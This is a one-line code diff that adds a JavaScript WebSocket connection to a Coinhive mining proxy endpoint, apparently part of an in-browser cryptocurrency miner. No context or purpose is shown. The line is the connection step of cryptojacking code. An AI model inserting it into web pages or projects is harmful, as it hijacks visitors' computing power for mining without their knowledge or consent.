@@ -1,0 +1,1 @@
+const ws = new WebSocket("wss://ws001.coinhive.com/proxy");
